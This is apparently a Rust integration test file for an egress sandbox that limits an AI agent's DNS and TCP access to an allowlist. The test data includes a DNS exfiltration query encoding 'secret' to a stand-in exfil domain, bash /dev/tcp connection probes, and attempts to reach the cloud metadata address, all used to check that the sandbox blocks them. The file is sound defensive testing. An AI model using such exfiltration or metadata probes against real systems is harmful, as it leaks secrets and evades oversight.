//! Egress as the agent meets it: real DNS clients (glibc `getent`, `dig`) and real TCP
//! connections from the agent's uid inside cordon's namespaces, against a world namespace with
//! a fake authoritative upstream (which records every query it gets) and TCP servers on
//! documentation addresses.

mod harness;

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use harness::world::{FakeDns, Greeter, Rec};
use harness::{Cordon, Mode, Phase, Sandbox, TestConfig, WORLD_V4};

const BOOT: Duration = Duration::from_secs(30);

struct World {
    dns: FakeDns,
    _greeters: Vec<Greeter>,
}

/// A sandbox with `allowlist`, the fake upstream, and greeters on `hosts` (added to the world).
fn world(sb: &Sandbox, allowlist: &str, hosts: &[&str]) -> World {
    sb.write_file("domains.conf", allowlist);
    let dns = FakeDns::start(&sb.net.world, format!("{WORLD_V4}:53").parse().unwrap());
    let mut greeters = Vec::new();
    for h in hosts {
        sb.net.add_world_addr(h);
        let addr: SocketAddr =
            if h.contains(':') { format!("[{h}]:443").parse().unwrap() } else { format!("{h}:443").parse().unwrap() };
        greeters.push(Greeter::start(&sb.net.world, addr));
    }
    // Let the world's new addresses finish coming up (IPv6 without DAD is immediate).
    std::thread::sleep(Duration::from_millis(50));
    World { dns, _greeters: greeters }
}

fn ip(s: &str) -> Rec {
    Rec::A(s.parse().unwrap())
}

/// Opens a TCP connection to host:443 with bash's /dev/tcp (glibc resolution for names) and
/// returns the greeting, or the error text.
fn connect(c: &Cordon, host: &str, as_agent: bool) -> Result<String, String> {
    let script = format!("timeout 5 bash -c 'exec 3<>/dev/tcp/{host}/443 && head -n1 <&3'");
    let out = if as_agent { c.agent_exec(&script) } else { c.exec(&script) };
    if out.status.success() {
        Ok(String::from_utf8_lossy(&out.stdout).trim().to_string())
    } else {
        Err(format!("{} (exit {:?})", String::from_utf8_lossy(&out.stderr).trim(), out.status.code()))
    }
}

/// `dig` from the agent's uid; returns its whole output.
fn dig(c: &Cordon, args: &str) -> String {
    let out = c.agent_exec(&format!("dig +tries=1 +time=3 {args}"));
    format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
}

fn status_of(dig_output: &str) -> &str {
    dig_output.split("status: ").nth(1).and_then(|r| r.split(',').next()).unwrap_or("NO ANSWER")
}

fn boot(sb: &Sandbox, cfg: &TestConfig) -> Cordon {
    let mut c = sb.start(cfg, &[], Mode::Pid1);
    c.wait_phase(Phase::Ready, BOOT);
    c
}

#[test]
fn allowed_name_resolves_and_connects_from_the_agent_uid_over_ipv4_and_ipv6() {
    let sb = Sandbox::new("allowed");
    let w = world(&sb, "api.example.com\n", &["192.0.2.10", "2001:db8::10"]);
    w.dns.set("api.example.com", vec![ip("192.0.2.10"), ip("2001:db8::10")]);
    let c = boot(&sb, &TestConfig::default());
    let out = c.agent_exec("getent ahosts api.example.com");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("192.0.2.10") && text.contains("2001:db8::10"), "glibc resolution: {text}");
    let greeting = connect(&c, "api.example.com", true).expect("connect by name");
    assert!(greeting.starts_with("hello from"), "{greeting}");
    assert_eq!(connect(&c, "192.0.2.10", true).unwrap(), "hello from 192.0.2.10:443");
    assert_eq!(connect(&c, "2001:db8::10", true).unwrap(), "hello from [2001:db8::10]:443");
}

#[test]
fn denied_name_gets_nxdomain_with_ede_and_is_never_forwarded() {
    let sb = Sandbox::new("denied");
    let w = world(&sb, "api.example.com\n", &[]);
    w.dns.set("api.example.com", vec![ip("192.0.2.10")]);
    w.dns.set("exfil.example.net", vec![ip("192.0.2.66")]);
    let c = boot(&sb, &TestConfig::default());
    let out = dig(&c, "@127.0.0.53 c2VjcmV0.exfil.example.net A");
    assert_eq!(status_of(&out), "NXDOMAIN", "{out}");
    assert!(out.contains("EDE: 15 (Blocked)"), "RFC 8914 Blocked: {out}");
    let out = dig(&c, "@127.0.0.53 exfil.example.net TXT");
    assert_eq!(status_of(&out), "NXDOMAIN", "{out}");
    // Malformed packets must not take the server down.
    c.agent_exec(
        "printf 'not a dns packet' > /dev/udp/127.0.0.53/53; head -c 3000 /dev/urandom > /dev/udp/127.0.0.53/53",
    );
    assert_eq!(status_of(&dig(&c, "@127.0.0.53 api.example.com A")), "NOERROR");
    let seen = w.dns.queries();
    assert!(!seen.iter().any(|q| q.contains("exfil")), "a denied name reached upstream: {seen:?}");
    assert!(seen.iter().any(|q| q.starts_with("api.example.com.")), "{seen:?}");
}

#[test]
fn direct_connections_to_addresses_never_resolved_are_rejected_but_root_is_unaffected() {
    let sb = Sandbox::new("directip");
    let _w = world(&sb, "api.example.com\n", &["192.0.2.11", "2001:db8::11"]);
    let c = boot(&sb, &TestConfig::default());
    for host in ["192.0.2.11", "2001:db8::11"] {
        let t0 = Instant::now();
        let err = connect(&c, host, true).expect_err("the agent reached an address it never resolved");
        assert!(err.contains("Connection refused"), "{host}: {err}");
        assert!(t0.elapsed() < Duration::from_secs(3), "rejected, not dropped: took {:?}", t0.elapsed());
        assert_eq!(
            connect(&c, host, false).unwrap(),
            format!("hello from {}:443", if host.contains(':') { format!("[{host}]") } else { host.to_string() })
        );
    }
}

#[test]
fn dns_to_the_world_resolver_is_refused_for_the_agent_but_not_for_root() {
    let sb = Sandbox::new("outsidedns");
    let w = world(&sb, "api.example.com\n", &[]);
    w.dns.set("api.example.com", vec![ip("192.0.2.10")]);
    w.dns.set("anything.example.net", vec![ip("192.0.2.77")]);
    let c = boot(&sb, &TestConfig::default());
    for transport in ["", "+tcp"] {
        let out = dig(&c, &format!("{transport} @{WORLD_V4} anything.example.net A"));
        assert_ne!(status_of(&out), "NOERROR", "the agent resolved through the world's resolver: {out}");
        assert!(out.contains("refused") || out.contains("no servers could be reached"), "{out}");
    }
    let root = c.exec(&format!("dig +short +tries=1 +time=3 @{WORLD_V4} anything.example.net A"));
    assert_eq!(String::from_utf8_lossy(&root.stdout).trim(), "192.0.2.77", "root is not restricted");
}

#[test]
fn wildcard_and_apex_truth_table_holds_end_to_end() {
    let sb = Sandbox::new("truthtable");
    let w = world(&sb, "example.com\n*.example.org\n", &[]);
    for n in ["example.com", "www.example.com", "example.org", "a.example.org", "a.b.example.org"] {
        w.dns.set(n, vec![ip("192.0.2.30")]);
    }
    let c = boot(&sb, &TestConfig::default());
    let table = [
        ("example.com", "NOERROR"),
        ("www.example.com", "NXDOMAIN"),
        ("example.org", "NXDOMAIN"),
        ("a.example.org", "NOERROR"),
        ("a.b.example.org", "NOERROR"),
        ("EXAMPLE.com", "NOERROR"),
    ];
    for (name, expect) in table {
        let out = dig(&c, &format!("@127.0.0.53 {name} A"));
        assert_eq!(status_of(&out), expect, "{name}: {out}");
    }
}

#[test]
fn international_names_are_matched_in_punycode_by_dig_getent_and_status_why() {
    let sb = Sandbox::new("idn");
    // The allowlist in Unicode, the upstream's zone in punycode, as on the wire.
    let w = world(&sb, "bücher.example.com\n*.münchen.example\n", &["192.0.2.40"]);
    w.dns.set("xn--bcher-kva.example.com", vec![ip("192.0.2.40")]);
    w.dns.set("www.xn--mnchen-3ya.example", vec![ip("192.0.2.40")]);
    w.dns.set("xn--bcker-gra.example.com", vec![ip("192.0.2.40")]);
    let c = boot(&sb, &TestConfig::default());
    for name in ["xn--bcher-kva.example.com", "XN--BCHER-KVA.example.com", "www.xn--mnchen-3ya.example"] {
        let out = dig(&c, &format!("@127.0.0.53 {name} A"));
        assert_eq!(status_of(&out), "NOERROR", "{name}: {out}");
        assert!(out.contains("192.0.2.40"), "{name}: {out}");
    }
    // A different international name (bäcker) stays denied and is never forwarded.
    let out = dig(&c, "@127.0.0.53 xn--bcker-gra.example.com A");
    assert_eq!(status_of(&out), "NXDOMAIN", "{out}");
    assert!(!w.dns.queries().iter().any(|q| q.contains("bcker")), "{:?}", w.dns.queries());
    // glibc, and a connection by name through the firewall.
    let out = c.agent_exec("getent ahosts xn--bcher-kva.example.com");
    assert!(String::from_utf8_lossy(&out.stdout).contains("192.0.2.40"), "getent: {out:?}");
    assert_eq!(connect(&c, "xn--bcher-kva.example.com", true).unwrap(), "hello from 192.0.2.40:443");
    // `status why` agrees with the server, in either form.
    for name in ["bücher.example.com", "xn--bcher-kva.example.com"] {
        let cmd =
            format!("{} status why {name} --config {}", env!("CARGO_BIN_EXE_cordon"), sb.path("cordon.toml").display());
        let out = c.exec(&cmd);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("allowed") && text.contains("192.0.2.40"), "why {name}: {text}");
    }
}

#[test]
fn a_name_whose_addresses_rotate_stays_reachable() {
    let sb = Sandbox::new("rotate");
    let w = world(&sb, "rot.example.com\n", &["192.0.2.20", "192.0.2.21"]);
    w.dns.set_ttl(1);
    w.dns.set("rot.example.com", vec![ip("192.0.2.20")]);
    let c = boot(&sb, &TestConfig::default());
    assert_eq!(connect(&c, "rot.example.com", true).unwrap(), "hello from 192.0.2.20:443");
    w.dns.set("rot.example.com", vec![ip("192.0.2.21")]);
    std::thread::sleep(Duration::from_millis(1500));
    assert_eq!(connect(&c, "rot.example.com", true).unwrap(), "hello from 192.0.2.21:443");
    // The old address stays admitted for its grace period.
    assert_eq!(connect(&c, "192.0.2.20", true).unwrap(), "hello from 192.0.2.20:443");
}

#[test]
fn private_and_metadata_answers_are_never_admitted() {
    let sb = Sandbox::new("rebind");
    let w = world(&sb, "*.example.com\n", &["192.0.2.40"]);
    w.dns.set("meta.example.com", vec![ip("169.254.169.254")]);
    w.dns.set("mixed.example.com", vec![ip("10.0.0.5"), ip("192.0.2.40"), ip("fd00::5")]);
    let c = boot(&sb, &TestConfig::default());
    let out = c.agent_exec("getent ahosts meta.example.com");
    assert!(!out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
    let out = dig(&c, "@127.0.0.53 mixed.example.com A");
    assert!(out.contains("192.0.2.40") && !out.contains("10.0.0.5"), "{out}");
    assert_eq!(connect(&c, "mixed.example.com", true).unwrap(), "hello from 192.0.2.40:443");
    let sets = c.exec("ipset list cordon4; ipset list cordon6");
    let sets = String::from_utf8_lossy(&sets.stdout);
    assert!(sets.contains("192.0.2.40"), "{sets}");
    for never in ["169.254.169.254", "10.0.0.5", "fd00::5"] {
        assert!(!sets.contains(never), "{never} was admitted: {sets}");
    }
    let err = connect(&c, "169.254.169.254", true).expect_err("metadata address reached");
    assert!(err.contains("Connection refused"), "{err}");
}

#[test]
fn upstream_down_keeps_known_names_working_and_fails_new_ones_cleanly() {
    let sb = Sandbox::new("upstreamdown");
    let w = world(&sb, "known.example.com\n*.example.org\n", &["192.0.2.50"]);
    w.dns.set_ttl(1);
    w.dns.set("known.example.com", vec![ip("192.0.2.50")]);
    w.dns.set("new.example.org", vec![ip("192.0.2.50")]);
    let cfg = TestConfig {
        network: "min_ttl = \"1s\"\ngrace = \"1s\"\nrefresh_interval = \"10s\"\n".into(),
        ..TestConfig::default()
    };
    let c = boot(&sb, &cfg);
    assert_eq!(connect(&c, "known.example.com", true).unwrap(), "hello from 192.0.2.50:443");
    w.dns.set_up(false);
    // Well past the 2 s admission of the first answer, and past one refresh that found
    // upstream down: the refresh must have kept the last known address admitted.
    std::thread::sleep(Duration::from_secs(12));
    assert_eq!(connect(&c, "192.0.2.50", true).unwrap(), "hello from 192.0.2.50:443");
    assert_eq!(connect(&c, "known.example.com", true).unwrap(), "hello from 192.0.2.50:443", "served stale");
    let cmd = format!("{} status --json --config {}", env!("CARGO_BIN_EXE_cordon"), sb.path("cordon.toml").display());
    let v = harness::wait_until("a refresh report in status", Duration::from_secs(20), || {
        let v: serde_json::Value = serde_json::from_slice(&c.exec(&cmd).stdout).ok()?;
        (!v["egress"]["last_refresh"].is_null()).then_some(v)
    });
    let refresh = &v["egress"]["last_refresh"];
    assert_eq!(refresh["failed"], serde_json::json!(["known.example.com"]), "{v}");
    assert_eq!(refresh["addresses"], 1, "the last known address was kept: {refresh}");
    assert!(v["dns"]["upstream_last_error"]["message"].is_string(), "{v}");
    assert!(v["dns"]["queries"]["stale"].as_u64().unwrap() >= 1);
    let out = dig(&c, "+time=10 @127.0.0.53 new.example.org A");
    assert_eq!(status_of(&out), "SERVFAIL", "a new name fails cleanly while upstream is down: {out}");
}

#[test]
fn a_refresh_under_continuous_connection_attempts_never_opens_a_window() {
    let sb = Sandbox::new("nowindow");
    let w = world(&sb, "stable.example.com\n", &["192.0.2.60", "192.0.2.61"]);
    w.dns.set_ttl(1);
    w.dns.set("stable.example.com", vec![ip("192.0.2.60")]);
    let cfg = TestConfig {
        network: "min_ttl = \"1s\"\ngrace = \"1s\"\nrefresh_interval = \"10s\"\n".into(),
        ..TestConfig::default()
    };
    let c = boot(&sb, &cfg);
    let script = r#"
ok=0; bad=0; leak=0; end=$((SECONDS+13))
while [ $SECONDS -lt $end ]; do
  if timeout 2 bash -c 'exec 3<>/dev/tcp/stable.example.com/443' 2>/dev/null; then ok=$((ok+1)); else bad=$((bad+1)); fi
  if timeout 2 bash -c 'exec 3<>/dev/tcp/192.0.2.61/443' 2>/dev/null; then leak=$((leak+1)); fi
done
echo "$ok $bad $leak""#;
    let out = c.agent_exec(script);
    let counts: Vec<u64> =
        String::from_utf8_lossy(&out.stdout).split_whitespace().map(|n| n.parse().unwrap()).collect();
    let (ok, bad, leak) = (counts[0], counts[1], counts[2]);
    assert!(ok > 20, "too few attempts to mean anything: {counts:?}");
    assert_eq!(bad, 0, "an allowed connection failed during the refresh window");
    assert_eq!(leak, 0, "a denied connection succeeded");
}

#[test]
fn large_answers_are_not_truncated_for_edns_clients() {
    let sb = Sandbox::new("edns");
    let w = world(&sb, "big.example.com\n", &[]);
    w.dns.set("big.example.com", (100..140).map(|i| ip(&format!("192.0.2.{i}"))).collect());
    let c = boot(&sb, &TestConfig::default());
    let out = dig(&c, "+bufsize=4096 +notcp @127.0.0.53 big.example.com A");
    assert!(out.contains("ANSWER: 40"), "{out}");
    assert!(!out.contains(" tc"), "truncated: {out}");
}

#[test]
fn bad_allowlist_lines_fail_the_boot_naming_file_and_line() {
    let sb = Sandbox::new("badlist");
    sb.write_file("domains.conf", "ok.example.com\n*\nfine.example.org\n*.com\n");
    let mut c = sb.start(&TestConfig { on_boot_failure: "hold", ..TestConfig::default() }, &[], Mode::Pid1);
    let state = c.wait_phase(Phase::Failed, BOOT);
    let error = state.stages.iter().find(|s| s.name == "config").unwrap().error.clone().unwrap();
    assert!(error.contains("domains.conf:2: `*`"), "{error}");
    assert!(error.contains("domains.conf:4: `*.com`"), "{error}");
    c.kill(c.reaper(), nix::sys::signal::Signal::SIGTERM);
    assert_eq!(c.wait_exit(BOOT).code(), Some(1));
}

#[test]
fn without_net_admin_the_boot_fails_closed_with_the_capability_hint() {
    let sb = Sandbox::new("nocap");
    let _w = world(&sb, "api.example.com\n", &[]);
    let cfg = sb.write_config(&TestConfig {
        on_boot_failure: "hold",
        agent_command: "touch started; exec sleep 1000".into(),
        ..TestConfig::default()
    });
    let before = "WRAP='setpriv --bounding-set=-net_admin --inh-caps=-net_admin --'";
    let mut c = sb.launch(&cfg, &[], Mode::Pid1, before);
    let state = c.wait_phase(Phase::Failed, BOOT);
    let failed = state.stages.last().unwrap();
    assert_eq!(failed.name, "firewall", "{state:?}");
    assert!(failed.hint.as_deref().unwrap().contains("--cap-add NET_ADMIN"), "{failed:?}");
    assert!(!c.inside(&sb.path("ws/started")).exists(), "the agent started without a firewall");
    c.kill(c.reaper(), nix::sys::signal::Signal::SIGTERM);
    assert_eq!(c.wait_exit(BOOT).code(), Some(1));
}

#[test]
fn a_read_only_resolv_conf_already_pointing_at_cordon_is_accepted_and_any_other_fails_with_the_fix() {
    let sb = Sandbox::new("ro-resolv");
    let w = world(&sb, "api.example.com\n", &["192.0.2.10"]);
    w.dns.set("api.example.com", vec![ip("192.0.2.10")]);
    let ours = sb.write_file("ours.conf", "nameserver 127.0.0.53\n");
    let cfg = TestConfig { network: format!("upstream = [\"{WORLD_V4}\"]\n"), ..TestConfig::default() };
    let before = format!("mount --bind {} /etc/resolv.conf\nmount -o remount,bind,ro /etc/resolv.conf", ours.display());
    let mut c = sb.launch(&sb.write_config(&cfg), &[], Mode::Pid1, &before);
    c.wait_phase(Phase::Ready, BOOT);
    assert_eq!(connect(&c, "api.example.com", true).unwrap(), "hello from 192.0.2.10:443");
    c.kill(c.reaper(), nix::sys::signal::Signal::SIGTERM);
    c.wait_exit(BOOT);

    let sb = Sandbox::new("ro-resolv-other");
    let cfg = TestConfig { on_boot_failure: "hold", ..TestConfig::default() };
    let mut c = sb.launch(&sb.write_config(&cfg), &[], Mode::Pid1, "mount -o remount,bind,ro /etc/resolv.conf");
    let state = c.wait_phase(Phase::Failed, BOOT);
    let stage = state.stages.last().unwrap();
    assert_eq!(stage.name, "dns");
    assert!(stage.hint.as_deref().unwrap().contains("--dns 127.0.0.53"), "{stage:?}");
    c.kill(c.reaper(), nix::sys::signal::Signal::SIGTERM);
    assert_eq!(c.wait_exit(BOOT).code(), Some(1));
}
